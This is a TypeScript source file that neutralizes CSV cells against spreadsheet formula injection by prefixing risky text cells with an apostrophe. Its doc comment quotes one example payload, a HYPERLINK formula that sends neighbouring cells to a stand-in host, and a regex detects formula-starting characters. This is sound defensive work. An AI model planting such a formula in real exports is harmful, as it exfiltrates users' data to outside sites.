/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening a CSV runs a cell that
 * starts with = + - @ (or a tab or carriage return, which some strip before looking) as a
 * formula — `=HYPERLINK("http://x/?"&A2,"ok")` in a report's note would send the neighbouring
 * cells to another site when clicked. Every CSV we write passes its text cells through here: such
 * a cell gets a leading apostrophe, which spreadsheets show as text and do not evaluate.
 * Numbers are written by us, never by a sender, and stay as they are (a negative number is not a
 * formula); only text is neutralized. One function for the CLI, the API and the explorer's export.
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/** The text of a CSV cell, neutralized when a spreadsheet would read it as a formula. */
export function neutralizeCsvCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A value for a CSV cell: strings neutralized, everything else unchanged. */
export function safeCsvValue<T>(value: T): T | string {
  return typeof value === 'string' ? neutralizeCsvCell(value) : value;
}
